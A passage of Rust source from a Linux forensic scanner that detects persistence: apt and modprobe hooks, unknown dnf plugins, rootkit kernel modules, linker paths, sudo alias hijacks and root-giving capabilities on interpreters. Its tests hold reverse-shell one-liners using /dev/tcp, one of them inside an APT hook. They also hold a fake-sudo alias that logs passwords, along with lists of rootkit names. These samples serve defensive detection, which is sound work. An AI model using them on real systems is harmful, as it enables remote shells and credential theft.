                i += 1;
            }
            _ => {
                let start = i;
                while data.get(i).is_some_and(|&c| {
                    !c.is_ascii_whitespace() && !matches!(c, b'"' | b'{' | b'}' | b';')
                }) {
                    i += 1;
                }
                pending = Some(data.get(start..i).unwrap_or_default().to_vec());
            }
        }
    }
    out
}

fn audit_apt(root: &HostRoot, out: &mut Outcome) {
    let mut files = vec![PathBuf::from("/etc/apt/apt.conf")];
    files.extend(
        files_in(root, Path::new("/etc/apt/apt.conf.d"), None, out)
            .into_iter()
            .map(|(_, p)| p),
    );
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        let hits: Vec<Hit> = apt_conf_commands(&buf)
            .into_iter()
            .filter_map(|(line, key, value)| {
                let reasons = command_reasons(&value);
                (!reasons.is_empty()).then(|| {
                    let mut text = key.into_bytes();
                    text.extend_from_slice(b" \"");
                    text.extend_from_slice(&value);
                    text.push(b'"');
                    Hit {
                        line,
                        text,
                        reasons,
                    }
                })
            })
            .collect();
        if !hits.is_empty() {
            out.findings.push(site_finding(&APT, &f, &hits));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// dnf/yum plugins.

/// Plugins the distributions (RHEL/CentOS/Rocky/Alma/Fedora/Amazon Linux) and their common
/// add-ons ship, by configuration file stem.
const KNOWN_PLUGINS: &[&str] = &[
    "amazon-id",
    "builddep",
    "changelog",
    "config-manager",
    "copr",
    "debug",
    "debuginfo-install",
    "download",
    "etckeeper",
    "expired-pgp-keys",
    "fastestmirror",
    "generate_completion_cache",
    "kabi",
    "kpatch",
    "langpacks",
    "local",
    "needs-restarting",
    "ovl",
    "playground",
    "post-transaction-actions",
    "priorities",
    "product-id",
    "protectbase",
    "refresh-packagekit",
    "releasever-adapter",
    "repoclosure",
    "repodiff",
    "repograph",
    "repomanage",
    "reposync",
    "rhnplugin",
    "search-disabled-repos",
    "security",
    "show-leaves",
    "snapper",
    "spacewalk",
    "subscription-manager",
    "system-upgrade",
    "tracer",
    "update-motd",
    "upload-profile",
    "verify",
    "versionlock",
];

fn audit_pm_plugins(root: &HostRoot, out: &mut Outcome) {
    for d in ["/etc/dnf/plugins", "/etc/yum/pluginconf.d"] {
        for (name, p) in files_in(root, Path::new(d), Some("conf"), out) {
            let stem = name.file_stem().map(OsStrExt::as_bytes).unwrap_or_default();
            if KNOWN_PLUGINS
                .iter()
                .any(|k| k.as_bytes() == stem || k.replace('-', "_").as_bytes() == stem)
            {
                continue;
            }
            let Some(buf) = read_config(root, &p, out) else {
                continue;
            };
            let enabled = buf.split(|&c| c == b'\n').enumerate().find(|(_, l)| {
                let t: Vec<u8> = l
                    .iter()
                    .filter(|c| !c.is_ascii_whitespace())
                    .copied()
                    .collect();
                let t = t.to_ascii_lowercase();
                t == b"enabled=1" || t == b"enabled=true" || t == b"enabled=yes"
            });
            let Some((line, l)) = enabled else {
                continue;
            };
            out.findings.push(
                Finding::new(
                    "persistence.package-manager-plugin",
                    Severity::Medium,
                    "dnf/yum enables a plugin no distribution ships",
                    pb(&p),
                )
                .with_evidence(Evidence::line(pb(&p), line as u64 + 1).with_excerpt(l.trim_ascii()))
                .with_detail(format!(
                    "dnf and yum import every enabled plugin's Python module as root at each run (dnf-automatic and makecache timers included); {} is not one of the plugins RHEL-family distributions ship. Its code is in dnf-plugins/ (dnf) or /usr/lib/yum-plugins/ (yum) under the same name.",
                    ferret_core::escape::escape(stem)
                ))
                .with_remediation("Read the plugin's .py file; if nobody installed it on purpose, preserve it and its configuration, then remove both.")
                .with_attack("T1546.016"),
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Kernel modules: modules-load.d, /etc/modules, modprobe.d install hooks.

/// Public loadable-kernel-module rootkits, by module name (lower case, `-` as `_`).
pub const ROOTKIT_MODULES: &[&str] = &[
    "adore",
    "adore_ng",
    "brokepkg",
    "caraxes",
    "diamorphine",
    "enyelkm",
    "knark",
    "kovid",
    "lkm_rootkit",
    "nuk3gh0st",
    "puszek",
    "reptile",
    "reptile_module",
    "rkduck",
    "singularity",
    "sutekh",
    "suterusu",
];

fn norm_module(name: &[u8]) -> Vec<u8> {
    name.iter()
        .map(|&c| {
            if c == b'-' {
                b'_'
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

/// The module names of a `modules-load.d` file or `/etc/modules` (one per line, `#` and `;`
/// comments, parameters after the name in `/etc/modules`): (1-based line, name).
pub fn modules_load_names(data: &[u8]) -> Vec<(u64, &[u8])> {
    data.split(|&c| c == b'\n')
        .enumerate()
        .filter_map(|(i, l)| {
            let t = l.trim_ascii();
            if t.is_empty() || t.first() == Some(&b'#') || t.first() == Some(&b';') {
                return None;
            }
            let name = t.split(u8::is_ascii_whitespace).next()?;
            (!name.is_empty()).then_some((i as u64 + 1, name))
        })
        .collect()
}

/// One `modprobe.d` command: `install MOD CMD...` or `remove MOD CMD...`. Returns (module,
/// command) or `None` for any other line.
pub fn modprobe_command(line: &[u8]) -> Option<(&[u8], &[u8])> {
    let t = line.trim_ascii();
    let (kw, rest) = super::split_word(t);
    if kw != b"install" && kw != b"remove" {
        return None;
    }
    let (module, cmd) = super::split_word(rest.trim_ascii_start());
    let cmd = cmd.trim_ascii();
    (!module.is_empty() && !cmd.is_empty()).then_some((module, cmd))
}

/// Names (normalised) of the modules the installed kernels know: `modules.dep` and
/// `modules.builtin` of each `/lib/modules/<version>`. `None` when no kernel tree could be read
/// (an image without one, a container).
fn module_tree(root: &HostRoot, out: &mut Outcome) -> Option<Vec<Vec<u8>>> {
    let mut names: Vec<Vec<u8>> = Vec::new();
    let mut any = false;
    for base in ["/lib/modules", "/usr/lib/modules"] {
        for (v, kind) in entries(root, Path::new(base), out).into_iter().take(64) {
            if kind != Some(FileKind::Directory) {
                continue;
            }
            for f in ["modules.dep", "modules.builtin"] {
                let Ok(buf) = root.read_capped(v.join(f), 64 << 20) else {
                    continue;
                };
                any = true;
                for l in buf.split(|&c| c == b'\n') {
                    let path = l.split(|&c| c == b':').next().unwrap_or_default();
                    let file = path.rsplit(|&c| c == b'/').next().unwrap_or_default();
                    let Some(dot) = file.windows(3).position(|w| w == b".ko") else {
                        continue;
                    };
                    names.push(norm_module(file.get(..dot).unwrap_or_default()));
                }
            }
        }
    }
    if !any {
        return None;
    }
    names.sort_unstable();
    names.dedup();
    Some(names)
}

const MODULES_LOAD_DIRS: &[&str] = &[
    "/etc/modules-load.d",
    "/run/modules-load.d",
    "/usr/local/lib/modules-load.d",
    "/usr/lib/modules-load.d",
    "/lib/modules-load.d",
];
const MODPROBE_DIRS: &[&str] = &[
    "/etc/modprobe.d",
    "/run/modprobe.d",
    "/usr/local/lib/modprobe.d",
    "/usr/lib/modprobe.d",
    "/lib/modprobe.d",
];

fn conf_files(root: &HostRoot, dirs: &[&str], out: &mut Outcome) -> Vec<PathBuf> {
    let mut v = Vec::new();
    for d in dirs {
        // /lib is a link to /usr/lib on merged-/usr hosts: scan the real name once.
        if d.starts_with("/lib/")
            && root
                .lstat("/lib")
                .is_ok_and(|s| s.kind == FileKind::Symlink)
        {
            continue;
        }
        for (_, p) in files_in(root, Path::new(d), Some("conf"), out) {
            if !v.contains(&p) {
                v.push(p);
            }
        }
    }
    v
}

fn audit_modules(root: &HostRoot, out: &mut Outcome) {
    let mut files = vec![PathBuf::from("/etc/modules")];
    for p in conf_files(root, MODULES_LOAD_DIRS, out) {
        if !files.contains(&p) {
            files.push(p);
        }
    }
    let mut tree: Option<Option<Vec<Vec<u8>>>> = None;
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        for (line, name) in modules_load_names(&buf) {
            let n = norm_module(name);
            let ev = Evidence::line(pb(&f), line).with_excerpt(name);
            if ROOTKIT_MODULES.iter().any(|r| r.as_bytes() == n) {
                out.findings.push(
                    Finding::new("persistence.module-rootkit", Severity::Critical, "a known rootkit module is loaded at every boot", name)
                        .with_evidence(ev)
                        .with_detail(format!("{} is the module name of a public loadable-kernel-module rootkit (it hides processes, files and connections and gives root on a signal); systemd-modules-load (or /etc/modules) loads it at boot.", ferret_core::escape::escape(name)))
                        .with_remediation("Assume the kernel is compromised: capture memory, preserve the module file and this configuration, rebuild the host from known-good media.")
                        .with_attack("T1547.006")
                        .with_attack("T1014"),
                );
                continue;
            }
            let known = tree.get_or_insert_with(|| module_tree(root, out));
            if let Some(names) = known {
                if names.binary_search(&n).is_err() {
                    out.findings.push(
                        Finding::new("persistence.module-unknown", Severity::Medium, "a module loaded at boot is not in any installed kernel's module tree", name)
                            .with_evidence(ev)
                            .with_detail(format!("{} is listed to load at boot but no modules.dep or modules.builtin of /lib/modules knows it: a module copied in by hand (rootkit installers skip depmod) or a leftover of a removed driver.", ferret_core::escape::escape(name)))
                            .with_remediation("Find the .ko file (modinfo NAME) and its origin; remove the line if it is not a driver you installed.")
                            .with_attack("T1547.006"),
                    );
                }
            }
        }
    }
    for f in conf_files(root, MODPROBE_DIRS, out) {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
            let Some((module, cmd)) = modprobe_command(l) else {
                continue;
            };
            let reasons = command_reasons(cmd);
            let mut sev = Severity::High;
            let mut why = reasons.join("; ");
            if reasons.is_empty() {
                if !unusual_modprobe_program(cmd) {
                    continue;
                }
                sev = Severity::Medium;
                why = "runs a program outside the system binary directories".into();
            }
            out.findings.push(
                Finding::new("persistence.modprobe-install", sev, "a modprobe.d install/remove hook runs a command", pb(&f))
                    .with_evidence(Evidence::line(pb(&f), i as u64 + 1).with_excerpt(l.trim_ascii()))
                    .with_detail(format!("modprobe runs this shell command as root instead of loading {} (at boot, on device hot-plug, whenever anything asks for the module); the command {why}.", ferret_core::escape::escape(module)))
                    .with_remediation("Preserve the file and the program it runs, then remove the line.")
                    .with_attack("T1547.006")
                    .with_attack("T1546"),
            );
        }
    }
}

/// A modprobe hook whose programs are not in the system binary directories (packaged hooks
/// run `/bin/true`, `/bin/false`, `/sbin/modprobe`, `/usr/sbin/sysctl`...).
fn unusual_modprobe_program(cmd: &[u8]) -> bool {
    const SYSTEM: &[&[u8]] = &[
        b"/bin/",
        b"/sbin/",
        b"/usr/bin/",
        b"/usr/sbin/",
        b"/lib/",
        b"/usr/lib/",
    ];
    cmd.split(|&c| matches!(c, b';' | b'&' | b'|'))
        .filter_map(|part| {
            part.split(u8::is_ascii_whitespace)
                .find(|w| !w.is_empty() && !w.contains(&b'='))
        })
        .any(|prog| prog.first() == Some(&b'/') && !SYSTEM.iter().any(|s| prog.starts_with(s)))
}

// ---------------------------------------------------------------------------------------------
// ld.so.conf.

fn audit_ld_so_conf(root: &HostRoot, out: &mut Outcome) {
    let mut files = vec![PathBuf::from("/etc/ld.so.conf")];
    files.extend(conf_files(root, &["/etc/ld.so.conf.d"], out));
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
            let t = l.trim_ascii();
            if t.is_empty() || t.first() == Some(&b'#') || t.starts_with(b"include ") {
                continue;
            }
            for dir in t
                .split(|c| c.is_ascii_whitespace() || matches!(c, b':' | b','))
                .filter(|d| d.first() == Some(&b'/'))
            {
                let Some(why) = library_dir_reason(root, dir) else {
                    continue;
                };
                out.findings.push(
                    Finding::new("persistence.ld-so-conf", Severity::High, "the dynamic linker searches a writable or hidden directory", dir)
                        .with_evidence(Evidence::line(pb(&f), i as u64 + 1).with_excerpt(t))
                        .with_detail(format!("ldconfig adds the directories of ld.so.conf to the linker cache: a library planted there replaces a system library in every program (sshd, sudo) that does not ship it elsewhere; {why}."))
                        .with_remediation("Preserve the directory's libraries, remove the line and run ldconfig.")
                        .with_attack("T1574.006"),
                );
            }
        }
    }
}

fn library_dir_reason(root: &HostRoot, dir: &[u8]) -> Option<String> {
    let d = dir.strip_suffix(b"/").unwrap_or(dir);
    if [&b"/tmp"[..], b"/var/tmp", b"/dev/shm"]
        .iter()
        .any(|t| d == *t || d.strip_prefix(*t).is_some_and(|r| r.first() == Some(&b'/')))
    {
        return Some("it is a world-writable temporary directory".into());
    }
    if d.starts_with(b"/home/") || d.starts_with(b"/root") {
        return Some("it is in a home directory".into());
    }
    if d.split(|&c| c == b'/')
        .any(|p| p.len() > 1 && p.first() == Some(&b'.') && p != b"..")
    {
        return Some("it is a hidden (dot-named) directory".into());
    }
    let st = root.lstat(Path::new(std::ffi::OsStr::from_bytes(d))).ok()?;
    (st.kind == FileKind::Directory && st.is_world_writable())
        .then(|| format!("it is world-writable (mode {:04o})", st.mode & 0o7777))
}

// ---------------------------------------------------------------------------------------------
// Shell aliases that shadow credential-taking commands.

/// Commands whose password prompt an alias can fake (a credential logger).
const PROMPTING: &[&[u8]] = &[b"sudo", b"su", b"passwd", b"ssh", b"login"];

/// `alias sudo='...'` (also su, passwd, ssh, login) whose value does not start with the command
/// itself: (name, value). `alias sudo='sudo '` (the usual way to expand aliases after sudo) is
/// not one.
pub fn alias_hijack(line: &[u8]) -> Option<(&[u8], &[u8])> {
    let t = line.trim_ascii();
    let rest = t.strip_prefix(b"alias")?;
    if rest.first().is_none_or(|c| !c.is_ascii_whitespace()) {
        return None;
    }
    let rest = rest.trim_ascii_start();
    let eq = rest.iter().position(|&c| c == b'=')?;
    let name = rest.get(..eq)?;
    if !PROMPTING.contains(&name) {
        return None;
    }
    let v = rest.get(eq + 1..)?.trim_ascii();
    let v = match v.first() {
        Some(q @ (b'\'' | b'"')) => {
            let inner = v.get(1..).unwrap_or_default();
            let end = inner.iter().position(|c| c == q).unwrap_or(inner.len());
            inner.get(..end).unwrap_or_default()
        }
        _ => v.split(u8::is_ascii_whitespace).next().unwrap_or_default(),
    };
    let first = v
        .trim_ascii()
        .split(u8::is_ascii_whitespace)
        .next()
        .unwrap_or_default();
    let base = first.rsplit(|&c| c == b'/').next().unwrap_or_default();
    let system = first == name
        || (base == name
            && [
                &b"/usr/bin/"[..],
                b"/bin/",
                b"/usr/sbin/",
                b"/sbin/",
                b"/usr/local/bin/",
            ]
            .iter()
            .any(|d| first.strip_prefix(*d) == Some(name)));
    (!system).then_some((name, v))
}

/// Start-up files with an alias hijack: checked with the profiles' file list.
pub(crate) fn alias_findings(file: &Path, buf: &[u8], out: &mut Outcome) {
    let mut hits = Vec::new();
    for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
        if let Some((name, _)) = alias_hijack(l) {
            hits.push((i as u64 + 1, name, l.trim_ascii()));
        }
    }
    if hits.is_empty() {
        return;
    }
    let mut names: Vec<String> = hits
        .iter()
        .map(|(_, n, _)| ferret_core::escape::escape(n))
        .collect();
    names.dedup();
    let mut f = Finding::new(
        "persistence.profile-alias-hijack",
        Severity::High,
        "shell start-up file replaces sudo/su/ssh/passwd with something else",
        pb(file),
    )
    .with_detail(format!(
        "An alias for {} that runs another program: typed passwords go to it (the classic fake sudo prompt that logs the password, then runs the real command).",
        names.join(", ")
    ))
    .with_remediation("Preserve the file and what the alias runs, remove the alias, and treat the passwords typed since as stolen.")
    .with_attack("T1546.004")
    .with_attack("T1056.001");
    for (line, _, text) in hits.into_iter().take(MAX_EVIDENCE) {
        f = f.with_evidence(Evidence::line(pb(file), line).with_excerpt(text));
    }
    out.findings.push(f);
}

// ---------------------------------------------------------------------------------------------
// File capabilities on interpreters.

/// Programs that run arbitrary code (interpreters, shells, editors, debuggers): a privilege
/// capability on one of them is a root shell for every user (GTFOBins "capabilities"). Matched
/// as a name followed by a version (`python3.11`, `perl5.36.0`) and a Debian alternative's
/// `.flavour` (`vim.basic`, `vim.tiny`, `sh.distrib`) only.
const INTERPRETERS: &[&str] = &[
    "python", "perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "wish", "gdb", "vim", "vi",
    "nvim", "rvim", "view", "emacs", "bash", "sh", "dash", "zsh", "ksh", "mksh", "csh", "tcsh",
    "fish", "busybox", "env", "find", "tar", "rsync", "openssl", "socat", "awk", "gawk", "mawk",
    "jjs", "java", "irb", "julia", "R", "Rscript", "pwsh",
];

/// Bin directories whose interpreters are checked.
const BIN_DIRS: &[&str] = &[
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
    "/bin",
    "/sbin",
];

fn is_interpreter(name: &[u8]) -> bool {
    INTERPRETERS.iter().any(|i| {
        name.strip_prefix(i.as_bytes()).is_some_and(|rest| {
            let v = rest
                .iter()
                .take_while(|c| c.is_ascii_digit() || matches!(c, b'.' | b'-'))
                .count();
            let (version, flavour) = rest.split_at(v);
            flavour.is_empty()
                || (version.ends_with(b".") && flavour.iter().all(u8::is_ascii_alphanumeric))
        })
    })
}

/// Whether the interpreter check below looks at `p` (an interpreter's name in a bin
/// directory): the file walk's capability check leaves those to it, so that a file is reported
/// once.
pub(crate) fn capability_checked_here(p: &Path) -> bool {
    p.parent()
        .is_some_and(|d| BIN_DIRS.iter().any(|b| d == Path::new(b)))
        && p.file_name().is_some_and(|n| is_interpreter(n.as_bytes()))
}

/// `persistence.interpreter-capability`: the `setcap cap_setuid+ep /usr/bin/python3` backdoor.
/// Only interpreters' names are opened (a few per directory), so the check costs a directory
/// listing per bin directory; a capability on a copy elsewhere (`/tmp`, a home, a hidden
/// directory) is the file walk's `files.capability-unusual-location`.
fn audit_capabilities(root: &HostRoot, out: &mut Outcome) {
    let mut seen: Vec<(u64, u64)> = Vec::new();
    for d in BIN_DIRS {
        for (p, kind) in entries(root, Path::new(d), out) {
            if kind != Some(FileKind::Regular) {
                continue; // symlinks: their target is listed itself
            }
            let name = p.file_name().map(OsStrExt::as_bytes).unwrap_or_default();
            if !is_interpreter(name) {
                continue;
            }
            let read = root
                .open_file(&p, &ferret_core::fs::OpenOptions::new())
                .and_then(|f| {
                    let st = f.stat();
                    Ok(((st.dev, st.ino), f.xattr("security.capability")?))
                });
            let raw = match read {
                // Hard links (and /bin when it is /usr/bin) are one file.
                Ok((id, _)) if seen.contains(&id) => continue,
                Ok((id, raw)) => {
                    seen.push(id);
                    match raw {
                        Some(raw) => raw,
                        None => continue,
                    }
                }
                Err(e) => {
                    out.errors.push(skipped(&e));
                    continue;
                }
            };
            let Some(sets) = ferret_core::caps::from_xattr(&raw) else {
                out.errors
                    .push(crate::util::malformed_capability(pb(&p), &raw));
                continue;
            };
            let granted = sets.granted() & ferret_core::caps::ROOT_GIVING;
            if granted == 0 {
                continue;
            }
            let caps = sets.names(granted).join(", ");
            out.findings.push(
                Finding::new("persistence.interpreter-capability", Severity::Critical, "an interpreter carries a capability that gives root", pb(&p))
                    .with_evidence(Evidence::file(pb(&p)).with_excerpt(format!("security.capability: {}", sets.to_text())))
                    .with_detail(format!("{} runs any code it is given, and its file capabilities ({caps}) let every user who runs it become root (os.setuid(0) and a shell): the `setcap cap_setuid+ep` backdoor. No distribution ships capabilities on interpreters.", p.display()))
                    .with_remediation("Preserve the file's metadata (getcap), remove the capability (setcap -r), and look for who set it and when (ctime).")
                    .with_attack("T1548")
                    .with_attack("T1548.001"),
            );
        }
    }
}

/// Runs every hook check (between them, `control` may cancel).
pub(crate) fn audit(root: &HostRoot, accounts: &Accounts, control: &Control, out: &mut Outcome) {
    let steps: [&dyn Fn(&mut Outcome); 16] = [
        &|o| audit_capabilities(root, o),
        &|o| audit_dbus(root, accounts, o),
        &|o| audit_grub(root, o),
        &|o| audit_polkit(root, o),
        &|o| audit_git(root, accounts, o),
        &|o| audit_init(root, o),
        &|o| scan_dirs(root, &GENERATOR, GENERATOR_DIRS, o),
        &|o| scan_dirs(root, &MOTD, &["/etc/update-motd.d"], o),
        &|o| scan_dirs(root, &NETWORK, NETWORK_DIRS, o),
        &|o| audit_ssh_rc(root, accounts, o),
        &|o| audit_xdg(root, accounts, o),
        &|o| audit_logrotate(root, o),
        &|o| audit_apt(root, o),
        &|o| audit_pm_plugins(root, o),
        &|o| audit_modules(root, o),
        &|o| audit_ld_so_conf(root, o),
    ];
    for step in steps {
        if crate::util::cancelled(control, out) {
            return;
        }
        step(out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn apt_conf_keys() {
        let conf = b"// comment\nAPT::Update::Pre-Invoke {\"(nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' > /dev/null 2>&1 &) &\"};\n\
DPkg { Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; }; };\n\
APT::Periodic::Update-Package-Lists \"1\";\n/* multi\nline */ Dpkg::Pre-Install-Pkgs:: \"/usr/sbin/dpkg-preconfigure --apt || true\";\n";
        let v = apt_conf_commands(conf);
        assert_eq!(v.len(), 3, "{v:?}");
        assert_eq!(v[0].0, 2);
        assert_eq!(v[0].1, "APT::Update::Pre-Invoke");
        assert_eq!(v[1].1, "DPkg::Post-Invoke");
        assert_eq!(v[1].0, 3);
        assert_eq!(v[2].1, "Dpkg::Pre-Install-Pkgs");
        assert_eq!(v[2].0, 6);
        assert!(!command_reasons(&v[0].2).is_empty());
        assert!(command_reasons(&v[1].2).is_empty());
        assert!(command_reasons(&v[2].2).is_empty());
    }

    #[test]
    fn modprobe_and_modules() {
        assert_eq!(
            modprobe_command(b"install usb-storage /bin/true"),
            Some((&b"usb-storage"[..], &b"/bin/true"[..]))
        );
        assert_eq!(modprobe_command(b"blacklist pcspkr"), None);
        assert!(!unusual_modprobe_program(b"/usr/sbin/modprobe --ignore-install nf_conntrack $CMDLINE_OPTS && /usr/sbin/sysctl --quiet --pattern 'net[.]netfilter[.]nf_conntrack.*' --system"));
        assert!(unusual_modprobe_program(
            b"/opt/x/run.sh; /sbin/modprobe --ignore-install e1000"
        ));
        assert_eq!(
            modules_load_names(b"# c\n; c\nloop\nmsr  opt=1\n"),
            vec![(3, &b"loop"[..]), (4, &b"msr"[..])]
        );
    }

    #[test]
    fn aliases() {
        assert!(alias_hijack(b"alias sudo='sudo '").is_none());
        assert!(alias_hijack(b"alias sudo=\"sudo -E \"").is_none());
        assert!(alias_hijack(b"alias ls='ls --color=auto'").is_none());
        assert!(alias_hijack(b"alias ssh='/usr/bin/ssh -A'").is_none());
        assert_eq!(
            alias_hijack(b"alias sudo='/tmp/.s/sudo'").map(|x| x.0),
            Some(&b"sudo"[..])
        );
        assert!(alias_hijack(
            b"  alias sudo='echo -n \"[sudo] password for $USER: \";read -s pwd;echo \"$pwd\" >>/tmp/.p; echo \"$pwd\" | /usr/bin/sudo -S'"
        )
        .is_some());
    }

    #[test]
    fn hidden_programs() {
        assert!(hidden_or_home_program(b"nohup /root/.cache/kswapd &"));
        assert!(hidden_or_home_program(b"/usr/lib/.x/agent"));
        assert!(!hidden_or_home_program(b"/usr/sbin/sshd -D"));
        assert!(!hidden_or_home_program(b". /lib/lsb/init-functions"));
        assert!(!hidden_or_home_program(b"cd ../bin"));
    }

    #[test]
    fn panix_payloads_classify() {
        for p in [
            &b"nohup setsid bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' & disown"[..],
            b"nohup bash -c \"while :; do bash -i >& /dev/tcp/10.0.0.1/1337 0>&1; sleep 10; done\" &",
            b"/bin/bash -c 'sh -i >& /dev/tcp/10.0.0.1/1337 0>&1'",
        ] {
            assert!(
                command_reasons(p).iter().any(|r| r.contains("network")),
                "{}",
                String::from_utf8_lossy(p)
            );
        }
    }

    #[test]
    fn logrotate_blocks() {
        let conf = b"/var/log/nginx/*.log {\n daily\n postrotate\n  invoke-rc.d nginx rotate >/dev/null 2>&1\n endscript\n}\n/tmp/app.log {\n weekly\n}\n";
        let v = logrotate_scripts(conf);
        assert_eq!(
            v,
            vec![(4, &b"invoke-rc.d nginx rotate >/dev/null 2>&1"[..])]
        );
    }

    #[test]
    fn grub_and_polkit() {
        let g = b"GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet splash\"\nGRUB_CMDLINE_LINUX_DEFAULT=\"$GRUB_CMDLINE_LINUX_DEFAULT init=/grub-panix.sh\"\nGRUB_CMDLINE_LINUX=\"rd.init=/x systemd.unit=rescue.target\"\n";
        assert_eq!(grub_init_values(g), vec![(3, &b"/grub-panix.sh"[..])]);
        let pkla = b"[Allow Everything]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n\n[Admins]\nIdentity=unix-group:sudo\nAction=org.freedesktop.packagekit.*\nResultActive=yes\n";
        assert_eq!(polkit_allow_all(pkla, false), vec![1]);
        let rules = b"// stock\npolkit.addRule(function(action, subject) {\n    if (action.id == \"org.freedesktop.login1.reboot\" && subject.isInGroup(\"wheel\")) {\n        return polkit.Result.YES;\n    }\n});\npolkit.addRule(function(action, subject) {\n\treturn polkit.Result.YES;\n});\n";
        assert_eq!(polkit_allow_all(rules, true), vec![7]);
        assert!(polkit_allow_all(b"polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:sudo\"];\n});\n", true).is_empty());
    }

    #[test]
    fn interpreters() {
        assert!(is_interpreter(b"python3.11"));
        assert!(is_interpreter(b"perl5.36.0"));
        assert!(is_interpreter(b"vim.basic"));
        assert!(is_interpreter(b"sh.distrib"));
        assert!(!is_interpreter(b"pythonista"));
        assert!(!is_interpreter(b"python3-config"));
        assert!(!is_interpreter(b"shutdown"));
        assert!(!is_interpreter(b"gst-ptp-helper"));
        assert!(!is_interpreter(b"ping"));
    }

    #[test]
    fn links_resolve() {
        assert_eq!(
            link_target(Path::new("/etc/rc2.d/S01ssh"), b"../init.d/ssh"),
            b"/etc/init.d/ssh".to_vec()
        );
        assert_eq!(
            link_target(Path::new("/etc/rc2.d/S99x"), b"/tmp/.x/run"),
            b"/tmp/.x/run".to_vec()
        );
    }
}
